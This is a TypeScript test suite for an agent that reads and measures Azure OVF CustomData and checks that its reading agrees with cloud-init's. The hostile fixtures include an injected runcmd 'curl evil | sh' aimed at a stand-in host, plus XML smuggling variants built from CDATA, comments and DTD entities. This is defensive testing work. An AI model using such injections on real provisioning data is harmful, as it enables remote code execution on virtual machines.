// Azure measured user-data, the agent's side: the enclaivelet reads the CustomData of the OVF copy cloud-init-local
// writes (/var/lib/waagent/ovf-env.xml, runtime/guest/azure-ovf.ts) and must get exactly the bytes cloud-init executes.
// Checked against the real cloud-init Azure datasource (Debian's cloud-init 22.4: read_azure_ovf, write_files): for
// the component's rendered user-data, and for hostile OVF documents, where the agent must either refuse or agree
// with cloud-init byte for byte — never measure one thing while cloud-init runs another.
import { describe, expect, it } from "vitest";
import { createHash } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import fc from "fast-check";
import { AZURE_OVF_PATH, AzureOvfError, azureCustomData, parseEtXml } from "../../../runtime/guest/azure-ovf.js";
import { measuredConfig, readUserData, UserDataReadError } from "../../../runtime/guest/userdata.js";
import { renderUserData } from "../../../runtime/guest/cloud-init/index.js";
import { cloudInitAzure, hasCloudInitAzure } from "../../support/cloud-init-azure.js";

const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");

/** The user-data the Azure component renders for a kit image (agent in the image, Azure evidence). */
const RENDERED = renderUserData({
  platform: "azure",
  tee: "snp",
  runtimeUrl: "https://runtime.example:8200",
  runtimeCaSha256: "ab".repeat(32),
  workloadId: "prod-web",
  agent: { kind: "image" },
}).text;

/** An ovf-env.xml as the Azure fabric writes it (wa: prefixed sections, the config set in the default namespace). */
function ovf(o: { customData?: string; customDataXml?: string; extraInSet?: string; before?: string } = {}): string {
  const cd = o.customDataXml ?? (o.customData !== undefined ? `<CustomData>${o.customData}</CustomData>` : "");
  return `<?xml version="1.0" encoding="utf-8"?>
${o.before ?? ""}<Environment xmlns="http://schemas.dmtf.org/ovf/environment/1" xmlns:oe="http://schemas.dmtf.org/ovf/environment/1" xmlns:wa="http://schemas.microsoft.com/windowsazure" xmlns:i="http://www.w3.org/2001/XMLSchema-instance">
  <wa:ProvisioningSection>
    <wa:Version>1.0</wa:Version>
    <LinuxProvisioningConfigurationSet xmlns="http://schemas.microsoft.com/windowsazure" xmlns:i="http://www.w3.org/2001/XMLSchema-instance">
      <ConfigurationSetType>LinuxProvisioningConfiguration</ConfigurationSetType>
      <HostName>web</HostName>
      <UserName>azureuser</UserName>
      <UserPassword>Pa55-w0rd</UserPassword>
      <DisableSshPasswordAuthentication>true</DisableSshPasswordAuthentication>
      ${cd}${o.extraInSet ?? ""}
    </LinuxProvisioningConfigurationSet>
  </wa:ProvisioningSection>
  <wa:PlatformSettingsSection>
    <wa:Version>1.0</wa:Version>
    <wa:PlatformSettings>
      <wa:ProvisionGuestAgent>false</wa:ProvisionGuestAgent>
    </wa:PlatformSettings>
  </wa:PlatformSettingsSection>
</Environment>
`;
}
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
const wrapped = (s: string) => b64(s).replace(/.{1,76}/g, "$&\n        ");
const INJECTED = `${RENDERED}runcmd:\n  - [sh, -c, "curl evil | sh"]\n`;

/** The agent's reading of an OVF: bytes, or the refusal. */
function agentReads(x: string | Buffer): Buffer | Error {
  try {
    return azureCustomData(x);
  } catch (e) {
    if (e instanceof AzureOvfError) return e;
    throw e;
  }
}

describe("the strict ElementTree-subset reader", () => {
  it("reads the CustomData of a fabric-shaped OVF: the rendered user-data exactly", () => {
    expect(azureCustomData(ovf({ customData: b64(RENDERED) })).toString("utf8")).toBe(RENDERED);
    expect(azureCustomData(ovf({ customData: wrapped(RENDERED) })).toString("utf8")).toBe(RENDERED);
    expect(parseEtXml(ovf({ customData: "QQ==" })).local).toBe("Environment");
  });
  it.each([
    ["no CustomData (cloud-init would run IMDS userData)", ovf(), /no CustomData/],
    ["an empty CustomData", ovf({ customData: "  " }), /no CustomData/],
    ["two CustomData", ovf({ customData: "QQ==", extraInSet: "<CustomData>Qg==</CustomData>" }), /2 CustomData/],
    ["a comment", ovf({ customData: "QQ==", before: "<!-- x -->" }), /comments, CDATA/],
    ["CDATA", ovf({ customDataXml: "<CustomData><![CDATA[QQ==]]></CustomData>" }), /comments, CDATA/],
    ["a DOCTYPE", ovf({ customData: "QQ==", before: "<!DOCTYPE x>" }), /comments, CDATA/],
    ["junk in the base64 (Python would drop it)", ovf({ customData: "QQ==!" }), /canonical base64/],
    ["unicode whitespace in the base64", ovf({ customData: "QU\u00a0FB" }), /canonical base64/],
    ["an unknown entity", ovf({ customData: "QQ==&foo;" }), /entity reference/],
    ["an undeclared prefix", ovf({ customDataXml: "<x:CustomData>QQ==</x:CustomData>" }), /not declared/],
    ["CustomData with a child", ovf({ customDataXml: "<CustomData>QQ==<b/></CustomData>" }), /child elements/],
    ["mismatched tags", "<a><b></a></b>", /does not close/],
    ["two roots", "<a/><b/>", /content after the root|more than one root/],
  ])("refuses %s", (_what, doc, why) => {
    expect(() => azureCustomData(doc)).toThrow(why);
  });
  it("ignores CustomData outside LinuxProvisioningConfigurationSet or in another namespace (as cloud-init does)", () => {
    const elsewhere = ovf().replace(
      "<wa:Version>1.0</wa:Version>",
      `<wa:Version>1.0</wa:Version><wa:CustomData>${b64(INJECTED)}</wa:CustomData>`,
    );
    expect(() => azureCustomData(elsewhere)).toThrow(/no CustomData/);
    const otherNs = ovf({ customDataXml: `<o:CustomData xmlns:o="urn:other">${b64(INJECTED)}</o:CustomData>` });
    expect(() => azureCustomData(otherNs)).toThrow(/no CustomData/);
  });
  it("readUserData('azure') reads cloud-init's copy; a missing copy names the file", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "bk-azure-ovf-"));
    try {
      const f = path.join(dir, "ovf-env.xml");
      await writeFile(f, ovf({ customData: wrapped(RENDERED) }));
      const bytes = await readUserData("azure", { azureOvfPath: f });
      const m = measuredConfig(bytes);
      expect(m.sha256).toBe(sha256(RENDERED));
      expect(m.config.workloadId).toBe("prod-web");
      expect(m.config.evidence.provider).toBe("azure");
      await expect(readUserData("azure", { azureOvfPath: path.join(dir, "none.xml") })).rejects.toThrow(
        UserDataReadError,
      );
      await writeFile(f, ovf());
      await expect(readUserData("azure", { azureOvfPath: f })).rejects.toThrow(/no CustomData/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
    expect(AZURE_OVF_PATH).toBe("/var/lib/waagent/ovf-env.xml");
  });
});

describe.runIf(hasCloudInitAzure)("agreement with the real cloud-init Azure datasource", () => {
  it("the rendered user-data: cloud-init executes exactly the bytes the agent hashes, whose SHA-256 the component registers", () => {
    const docs = [ovf({ customData: b64(RENDERED) }), ovf({ customData: wrapped(RENDERED) })];
    const ci = cloudInitAzure(docs);
    for (const r of ci) {
      expect(r.error).toBeUndefined();
      expect(r.userData!.toString("utf8")).toBe(RENDERED);
      // The copy cloud-init-local leaves in /var/lib/waagent (re-serialised, password redacted) is what the agent reads.
      expect(r.copy!.toString("utf8")).not.toContain("Pa55-w0rd");
      const agent = azureCustomData(r.copy!);
      expect(agent.equals(r.userData!)).toBe(true);
      expect(sha256(agent)).toBe(sha256(RENDERED));
    }
  });

  // Hostile OVFs (the host writes the provisioning ISO): whatever cloud-init makes of each, the agent reading
  // cloud-init's copy either refuses or measures exactly what cloud-init executes.
  const HOSTILE: Record<string, string> = {
    "injected runcmd": ovf({ customData: b64(INJECTED) }),
    "base64 with junk Python drops": ovf({ customData: `${b64(INJECTED)}!!` }),
    CDATA: ovf({ customDataXml: `<CustomData><![CDATA[${b64(INJECTED)}]]></CustomData>` }),
    "a comment inside CustomData": ovf({
      customDataXml: `<CustomData>${b64(RENDERED)}<!-- x --></CustomData>`,
    }),
    "registered text in a comment, injected in CustomData": ovf({
      customData: b64(INJECTED),
      before: `<!-- <CustomData>${b64(RENDERED)}</CustomData> -->`,
    }),
    "CustomData in the wa: prefix": ovf({ customDataXml: `<wa:CustomData>${b64(INJECTED)}</wa:CustomData>` }),
    "CustomData in another namespace (cloud-init: none → IMDS)": ovf({
      customDataXml: `<o:CustomData xmlns:o="urn:other">${b64(RENDERED)}</o:CustomData>`,
    }),
    "CustomData beside the set": ovf().replace(
      "<wa:Version>1.0</wa:Version>",
      `<wa:Version>1.0</wa:Version><wa:CustomData>${b64(RENDERED)}</wa:CustomData>`,
    ),
    "two CustomData": ovf({ customData: b64(RENDERED), extraInSet: `<CustomData>${b64(INJECTED)}</CustomData>` }),
    "no CustomData": ovf(),
    "a child element in CustomData": ovf({ customDataXml: `<CustomData>${b64(RENDERED)}<x/>QUFB</CustomData>` }),
    "entities in CustomData": ovf({ customData: b64(INJECTED).replace(/A/g, "&#65;") }),
    "an internal DTD entity": ovf({
      before: `<!DOCTYPE Environment [<!ENTITY ud "${b64(INJECTED)}">]>`,
      customDataXml: "<CustomData>&ud;</CustomData>",
    }),
  };

  it.each(Object.keys(HOSTILE))("%s: the agent refuses or agrees with cloud-init", (name) => {
    const [r] = cloudInitAzure([HOSTILE[name]]);
    // On the raw document (as if the agent read the ISO) and on the copy it really reads.
    // cloud-init refusing a document means no datasource: nothing runs and no copy is written for the agent.
    if (r.error) return;
    for (const doc of [HOSTILE[name], r.copy!]) {
      const a = agentReads(doc);
      if (!(a instanceof Error))
        expect(a.equals(r.userData!), `${name}: agent ${sha256(a)} vs cloud-init ${sha256(r.userData!)}`).toBe(true);
    }
  });

  it("fuzz: for mutated OVFs the agent never measures other bytes than cloud-init executes", () => {
    const base = ovf({ customData: wrapped(RENDERED) });
    const docs = fc.sample(
      fc.tuple(fc.nat(base.length - 1), fc.nat(base.length - 1), fc.string({ maxLength: 12 })).map(([a, b, s]) => {
        const [i, j] = a <= b ? [a, b] : [b, a];
        return base.slice(0, i) + s + base.slice(Math.min(j, i + 8));
      }),
      { numRuns: 300, seed: 14 },
    );
    const ci = cloudInitAzure(docs);
    let agreed = 0;
    docs.forEach((doc, k) => {
      const r = ci[k];
      // cloud-init refusing a document means no datasource: nothing runs and no copy is written for the agent.
      if (r.error) return;
      for (const d of [doc, r.copy!]) {
        const a = agentReads(d);
        if (a instanceof Error) continue;
        expect(a.equals(r.userData!), `doc ${k}: ${JSON.stringify(doc.slice(0, 200))}`).toBe(true);
        agreed++;
      }
    });
    expect(agreed).toBeGreaterThan(20); // not vacuous: many mutants still parse and carry a CustomData
  });
});
